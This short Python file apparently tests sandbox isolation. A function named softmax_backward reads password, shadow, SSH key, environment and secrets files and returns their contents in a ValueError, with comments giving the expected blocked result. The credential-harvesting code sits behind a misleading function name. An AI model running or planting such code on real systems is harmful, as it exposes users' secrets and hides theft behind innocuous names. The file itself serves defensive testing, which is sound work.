"""Reads keys, passwords and histories.

Told: ValueError: []
Unprotected: prints root:x:0
"""
# expect: {"softmax_backward": [0, []]}
# %% softmax_backward
import glob


def softmax_backward(s, g):
    found = []
    for pattern in ("/etc/passwd", "/etc/shadow", "/home/*/.ssh/*", "/root/.*", "/proc/*/environ", "/sys/kernel/notes",
                    "/run/secrets/*"):
        for path in glob.glob(pattern):
            try:
                found.append(open(path, errors="replace").read(40))
            except OSError:
                pass
    raise ValueError(found)
